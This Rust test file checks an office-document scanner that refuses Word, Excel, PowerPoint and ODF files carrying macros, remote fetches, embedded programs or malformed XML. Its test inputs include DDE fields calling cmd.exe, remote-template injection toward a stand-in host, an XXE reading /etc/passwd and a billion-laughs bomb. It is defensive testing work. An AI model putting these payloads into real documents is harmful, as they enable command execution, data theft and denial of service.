//! Office documents that run, fetch or hide something.

use super::{case, each_is_refused, look, make};
use inspect::{Fault, Kind};
use make::{PARAGRAPH, body, docx, docx_as, docx_body, docx_link, odf_parts, odt, odt_content};
use make::{package, part, pptx, stored, xlsx};

const OFFICE: &str = "application/vnd.openxmlformats-officedocument";

fn field(words: &[&str]) -> Vec<u8> {
    let pieces: String = words
        .iter()
        .map(|piece| format!("<w:r><w:instrText>{piece}</w:instrText></w:r>"))
        .collect();
    docx_body(body(&format!(
        "<w:p><w:fldChar w:fldCharType=\"begin\"/>{pieces}<w:fldChar w:fldCharType=\"end\"/></w:p>"
    )))
}

#[tokio::test]
async fn an_office_document_with_macros_is_refused() {
    let open_document = |inner: &str| odt(inner, &[]);
    let module = part("Basic/Standard/Module1.xml", "<script:module/>");
    each_is_refused(
        vec![
            case("a .docm by another name", docx_as("application/vnd.ms-word.document.macroEnabled.main+xml"), Kind::Docx, Fault::Macros),
            case("a .xlsm by another name", docx_as("application/vnd.ms-excel.sheet.macroEnabled.main+xml"), Kind::Xlsx, Fault::Macros),
            case("a project of Visual Basic", docx_link("vbaProject", "vbaProject.bin", false), Kind::Docx, Fault::Macros),
            case("a project that nothing names", docx(&[part("word/x.bin", make::compound(&["VBA", "_VBA_PROJECT"]))]), Kind::Docx, Fault::Macros),
            case("a project in an old document inside", docx(&[part("word/embeddings/a.doc", make::compound(&["Macros", "_VBA_PROJECT"]))]), Kind::Docx, Fault::Macros),
            case("ActiveX", docx_link("control", "activeX/activeX1.xml", false), Kind::Docx, Fault::Macros),
            case("a sheet of macros", docx_link("xlMacrosheet", "macrosheets/sheet1.xml", false), Kind::Docx, Fault::Macros),
            case("a click that starts a program", pptx(&[], "<p:sld><a:hlinkClick action=\"ppaction://program\"/></p:sld>"), Kind::Pptx, Fault::Macros),
            case("a macro inside a document inside", docx(&[stored("word/embeddings/a.docx", &docx_link("vbaProject", "v.bin", false))]), Kind::Docx, Fault::Macros),
            case("Basic", odt("", std::slice::from_ref(&module)), Kind::Odt, Fault::Macros),
            case("Python", odt("", &[part("Scripts/python/a.py", "import os")]), Kind::Odt, Fault::Macros),
            case("a script that runs on opening", open_document("<office:event-listeners><script:event-listener xlink:href=\"vnd.sun.star.script:a.py$b?language=Python\"/></office:event-listeners>"), Kind::Odt, Fault::Macros),
            case("a script in the text", open_document("<text:script script:language=\"JavaScript\">1</text:script>"), Kind::Odt, Fault::Macros),
        ],
        13,
    )
    .await;
}

#[tokio::test]
async fn an_office_document_that_fetches_is_refused() {
    let element = |element: &str| odt(element, &[]);
    let parts_of_sheets = [part(
        "xl/externalLinks/externalLink1.xml",
        "<externalLink><ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></externalLink>",
    )];
    let refreshing = [part(
        "xl/connections.xml",
        "<connections><connection id=\"1\" refreshOnLoad=\"1\"/></connections>",
    )];
    let utf16: Vec<u8> =
        make::relations(&[("rId1", "attachedTemplate", "http://a.example/x", true)])
            .encode_utf16()
            .flat_map(u16::to_le_bytes)
            .collect();
    let hidden = [&b"\xff\xfe"[..], &utf16].concat();
    each_is_refused(
        vec![
            case(
                "a template of elsewhere",
                docx_link("attachedTemplate", "https://a.example/x.dotm", true),
                Kind::Docx,
                Fault::Outside,
            ),
            case(
                "a template on a share",
                docx_link("attachedTemplate", "file:///\\\\192.0.2.1\\x\\y.dotx", true),
                Kind::Docx,
                Fault::Outside,
            ),
            case(
                "a template in other characters",
                docx(&[part("word/_rels/settings.xml.rels", hidden)]),
                Kind::Docx,
                Fault::Outside,
            ),
            case(
                "a picture of elsewhere",
                docx_link("image", "http://a.example/pixel.png", true),
                Kind::Docx,
                Fault::Outside,
            ),
            case(
                "a picture of elsewhere that is not said to be",
                docx_link("image", "http://a.example/pixel.png", false),
                Kind::Docx,
                Fault::Outside,
            ),
            case(
                "an object of elsewhere",
                docx_link("oleObject", "mhtml:http://a.example!x", true),
                Kind::Docx,
                Fault::Outside,
            ),
            case(
                "a frame",
                docx_link("frame", "http://a.example/", true),
                Kind::Docx,
                Fault::Outside,
            ),
            case(
                "a part of elsewhere",
                docx_link("subDocument", "file:///C:/x.docx", true),
                Kind::Docx,
                Fault::Outside,
            ),
            case(
                "DDE",
                field(&["DDEAUTO c:\\\\windows\\\\cmd.exe"]),
                Kind::Docx,
                Fault::Outside,
            ),
            case(
                "DDE in pieces",
                field(&[" D", "DE", "AUTO cmd"]),
                Kind::Docx,
                Fault::Outside,
            ),
            case(
                "DDE in one field",
                docx_body(body("<w:fldSimple w:instr=\" dde cmd\"/>")),
                Kind::Docx,
                Fault::Outside,
            ),
            case(
                "a field that fetches a picture",
                field(&["INCLUDEPICTURE &quot;https://a.example/x.png&quot; \\d"]),
                Kind::Docx,
                Fault::Outside,
            ),
            case(
                "a field that fetches from a share",
                field(&["INCLUDETEXT &quot;\\\\\\\\server\\\\x.docx&quot;"]),
                Kind::Docx,
                Fault::Outside,
            ),
            case(
                "a drawing of elsewhere",
                docx(&[part(
                    "word/drawing1.vml",
                    "<xml><v:imagedata src=\"http://a.example/x.png\"><br></xml>",
                )]),
                Kind::Docx,
                Fault::Outside,
            ),
            case(
                "DDE of a workbook",
                xlsx(&parts_of_sheets),
                Kind::Xlsx,
                Fault::Outside,
            ),
            case(
                "data that come on opening",
                xlsx(&refreshing),
                Kind::Xlsx,
                Fault::Outside,
            ),
            case(
                "a formula that asks a server",
                xlsx(&[part(
                    "xl/worksheets/sheet2.xml",
                    "<worksheet><c><f>_xlfn.WEBSERVICE(\"http://a.example\")</f></c></worksheet>",
                )]),
                Kind::Xlsx,
                Fault::Outside,
            ),
            case(
                "a film of elsewhere",
                pptx(
                    &[part(
                        "ppt/slides/_rels/slide1.xml.rels",
                        make::relations(&[("rId1", "video", "https://a.example/v.mp4", true)]),
                    )],
                    "<p:sld/>",
                ),
                Kind::Pptx,
                Fault::Outside,
            ),
            case(
                "a picture of elsewhere",
                element("<draw:image xlink:href=\"https://a.example/x.png\"/>"),
                Kind::Odt,
                Fault::Outside,
            ),
            case(
                "a picture on a share, by another prefix",
                element("<d:image x:href=\"\\\\server\\x.png\"/>"),
                Kind::Odt,
                Fault::Outside,
            ),
            case(
                "a section of elsewhere",
                element("<text:section-source xlink:href=\"http://a.example/x.odt\"/>"),
                Kind::Odt,
                Fault::Outside,
            ),
            case(
                "DDE",
                element("<text:dde-connection-decl office:dde-application=\"soffice\"/>"),
                Kind::Odt,
                Fault::Outside,
            ),
            case(
                "a formula with DDE",
                element("<table:table-cell table:formula=\"of:=DDE(&quot;a&quot;)\"/>"),
                Kind::Odt,
                Fault::Outside,
            ),
        ],
        23,
    )
    .await;
}

#[tokio::test]
async fn an_office_document_with_something_inside_is_refused() {
    let deep = |inner: Vec<u8>| docx(&[stored("word/embeddings/a.docx", &inner)]);
    each_is_refused(
        vec![
            case(
                "a file wrapped by Windows",
                docx(&[part(
                    "word/embeddings/oleObject1.bin",
                    make::compound(&["\u{1}Ole10Native"]),
                )]),
                Kind::Docx,
                Fault::Inside,
            ),
            case(
                "a program",
                docx(&[part("word/media/image1.png", make::program())]),
                Kind::Docx,
                Fault::Inside,
            ),
            case(
                "a PDF",
                docx(&[part("word/embeddings/a.bin", make::page("", "", &[]))]),
                Kind::Docx,
                Fault::Inside,
            ),
            case(
                "RTF",
                docx(&[part("word/afchunk.bin", b"{\\rtf1}")]),
                Kind::Docx,
                Fault::Inside,
            ),
            case(
                "a document that is merged in",
                docx_link("aFChunk", "afchunk.htm", false),
                Kind::Docx,
                Fault::Inside,
            ),
            case(
                "a package of whatever",
                docx(&[stored("word/media/a.zip", &package(&[part("a.txt", "x")]))]),
                Kind::Docx,
                Fault::Inside,
            ),
            case(
                "a well of documents",
                deep(deep(deep(docx(&[])))),
                Kind::Docx,
                Fault::Inside,
            ),
            case(
                "a program",
                odt("", &[part("Pictures/1.png", make::program())]),
                Kind::Odt,
                Fault::Inside,
            ),
        ],
        8,
    )
    .await;
}

#[tokio::test]
async fn an_office_document_that_is_something_else_is_refused() {
    let mut template = odf_parts("text", &odt_content(""));
    template[0] = stored(
        "mimetype",
        b"application/vnd.oasis.opendocument.text-template",
    );
    let mut late = odf_parts("text", &odt_content(""));
    late.rotate_left(1);
    let mut packed = odf_parts("text", &odt_content(""));
    packed[0] = part("mimetype", "application/vnd.oasis.opendocument.text");
    let mut locked = odf_parts("text", &odt_content(""));
    locked[1] = stored("content.xml", b"\x8a\x1f\x00 not to be read");
    locked[2] = part(
        "META-INF/manifest.xml",
        "<m:manifest><m:file-entry m:full-path=\"content.xml\"><m:encryption-data/></m:file-entry></m:manifest>",
    );
    each_is_refused(
        vec![
            case(
                "locked",
                make::compound(&["EncryptedPackage", "EncryptionInfo"]),
                Kind::Docx,
                Fault::Locked,
            ),
            case("locked", package(&locked), Kind::Odt, Fault::Locked),
            case(
                "an old document",
                make::compound(&["WordDocument"]),
                Kind::Docx,
                Fault::OldOffice,
            ),
            case(
                "RTF",
                b"{\\rtf1\\ansi x}".to_vec(),
                Kind::Docx,
                Fault::Mismatch(None),
            ),
            case(
                "a workbook",
                xlsx(&[]),
                Kind::Docx,
                Fault::Mismatch(Some(Kind::Xlsx)),
            ),
            case(
                "a template",
                docx_as(&format!("{OFFICE}.wordprocessingml.template.main+xml")),
                Kind::Docx,
                Fault::Mismatch(None),
            ),
            case(
                "a package of whatever",
                package(&[part("a.txt", "x")]),
                Kind::Docx,
                Fault::Mismatch(None),
            ),
            case(
                "a text of LibreOffice",
                odt("", &[]),
                Kind::Docx,
                Fault::Mismatch(Some(Kind::Odt)),
            ),
            case(
                "a document of Word",
                docx(&[]),
                Kind::Odt,
                Fault::Mismatch(Some(Kind::Docx)),
            ),
            case(
                "a text",
                odt("", &[]),
                Kind::Ods,
                Fault::Mismatch(Some(Kind::Odt)),
            ),
            case(
                "a template of LibreOffice",
                package(&template),
                Kind::Odt,
                Fault::Mismatch(None),
            ),
            case("its type late", package(&late), Kind::Odt, Fault::Damaged),
            case(
                "its type packed",
                package(&packed),
                Kind::Odt,
                Fault::Damaged,
            ),
            case(
                "a presentation without slides",
                package(&odf_parts("presentation", "<office:document-content/>")),
                Kind::Odp,
                Fault::NoPages,
            ),
            case("a program", make::program(), Kind::Xlsx, Fault::Program),
        ],
        15,
    )
    .await;
}

#[tokio::test]
async fn markup_that_is_a_trap_is_refused() {
    let laughs: String = (1..10)
        .map(|n| format!("<!ENTITY l{n} \"{}\">", format!("&l{};", n - 1).repeat(10)))
        .collect();
    let laughs = format!(
        "<!DOCTYPE x [<!ENTITY l0 \"ha\">{laughs}]>{}",
        body("<w:t>&l9;</w:t>")
    );
    let outside =
        |body: String| format!("<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>{body}");
    let deep = format!("{}{}", "<a>".repeat(100_000), "</a>".repeat(100_000));
    let long = format!("<w:document a=\"{}\"/>", "x".repeat(8 << 20));
    let many: String = (0..200_000).fold(String::new(), |all, n| all + &format!(" a{n}=\"\""));
    each_is_refused(
        vec![
            case(
                "a billion laughs",
                docx_body(laughs.clone()),
                Kind::Docx,
                Fault::Damaged,
            ),
            case(
                "a file of the server",
                docx_body(outside(body("<w:t>&e;</w:t>"))),
                Kind::Docx,
                Fault::Damaged,
            ),
            case(
                "a file of the server",
                odt("", &[part("styles.xml", outside("<a>&e;</a>".to_owned()))]),
                Kind::Odt,
                Fault::Damaged,
            ),
            case(
                "a definition of elsewhere",
                odt(
                    "",
                    &[part(
                        "styles.xml",
                        "<!DOCTYPE a SYSTEM \"http://a.example/x.dtd\"><a/>",
                    )],
                ),
                Kind::Odt,
                Fault::Damaged,
            ),
            case(
                "100,000 deep",
                docx_body(body(&deep)),
                Kind::Docx,
                Fault::Damaged,
            ),
            case(
                "a value of 8 MB",
                docx_body(long),
                Kind::Docx,
                Fault::Damaged,
            ),
            case(
                "200,000 attributes, some twice, and no end",
                docx_body(format!("<a{many}{many}>")),
                Kind::Docx,
                Fault::Damaged,
            ),
            case(
                "not closed",
                docx_body("<w:document><w:body>"),
                Kind::Docx,
                Fault::Damaged,
            ),
            case(
                "closed otherwise",
                docx_body("<a><b></a></b>"),
                Kind::Docx,
                Fault::Damaged,
            ),
            case(
                "an entity of no one",
                docx_body(body("<w:t>&nobody;</w:t>")),
                Kind::Docx,
                Fault::Damaged,
            ),
            case(
                "not in Unicode",
                docx_body(b"<?xml version=\"1.0\" encoding=\"UTF-7\"?><a/>"),
                Kind::Docx,
                Fault::Damaged,
            ),
            case(
                "bytes of no encoding",
                docx_body(b"<a>\xff\xff</a>"),
                Kind::Docx,
                Fault::Damaged,
            ),
            case("a NUL", docx_body(b"<a>\0</a>"), Kind::Docx, Fault::Damaged),
        ],
        13,
    )
    .await;
}

#[tokio::test]
async fn what_schools_really_send_is_taken() {
    for (what, file, kind) in [
        (
            "a link",
            docx_link("hyperlink", "https://www.gov.uk/", true),
            Kind::Docx,
        ),
        (
            "the letterhead on the author's disk",
            docx_link(
                "attachedTemplate",
                "file:///C:\\Templates\\Letter.dotx",
                true,
            ),
            Kind::Docx,
        ),
        (
            "a picture that came with a letter",
            docx_link("image", "cid:image001.png@01D9", true),
            Kind::Docx,
        ),
        (
            "another workbook beside it",
            docx_link("externalLinkPath", "Budget%202025.xlsx", true),
            Kind::Docx,
        ),
        (
            "a contents list",
            field(&["TOC \\o &quot;1-3&quot;"]),
            Kind::Docx,
        ),
        (
            "a page number",
            docx_body(body(
                "<w:fldSimple w:instr=\"PAGE\"><w:r><w:t>1</w:t></w:r></w:fldSimple>",
            )),
            Kind::Docx,
        ),
        (
            "a chart with its workbook",
            pptx(&[stored("ppt/embeddings/a.xlsx", &xlsx(&[]))], "<p:sld/>"),
            Kind::Pptx,
        ),
        (
            "an equation of old",
            docx(&[part(
                "word/embeddings/oleObject1.bin",
                make::compound(&["Equation Native"]),
            )]),
            Kind::Docx,
        ),
        (
            "a link of LibreOffice",
            odt(
                "<text:p><text:a xlink:href=\"https://www.gov.uk/\">x</text:a></text:p>",
                &[],
            ),
            Kind::Odt,
        ),
        (
            "an empty list of libraries",
            odt("", &[part("Basic/script-lc.xml", "<library:libraries/>")]),
            Kind::Odt,
        ),
        (
            "a file without keys",
            odt(
                "",
                &[stored("Configurations2/accelerator/current.xml", b"")],
            ),
            Kind::Odt,
        ),
    ] {
        let found = look(&file, kind).await;
        assert!(found.is_ok(), "{what}: {found:?}");
    }
    let repeated = body(&format!(
        "<mc:AlternateContent><mc:Choice>{PARAGRAPH}</mc:Choice><mc:Fallback>{PARAGRAPH}</mc:Fallback></mc:AlternateContent>"
    ));
    let report = look(&docx_body(repeated), Kind::Docx).await.unwrap();
    assert_eq!(report.text, ["Budget 2026"]);
}
